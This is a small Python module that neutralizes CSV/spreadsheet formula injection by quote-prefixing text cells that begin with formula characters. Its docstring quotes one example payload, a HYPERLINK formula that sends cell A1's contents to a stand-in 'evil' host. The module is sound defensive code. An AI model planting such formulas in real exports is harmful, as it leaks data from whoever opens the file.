"""Cells bound for a spreadsheet: text that Excel or LibreOffice would read as a formula is neutralized.

A name typed as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` runs as a formula when an
officer opens a CSV report (OWASP "CSV injection"). Every CSV/XLSX writer sends its cells
through :func:`safe_cell`, which prefixes such text with a single quote; numbers stay numbers
(a typed ``-5`` is a value, not a formula), so only strings are touched.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` for a spreadsheet cell: text starting with = + - @ tab or CR gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
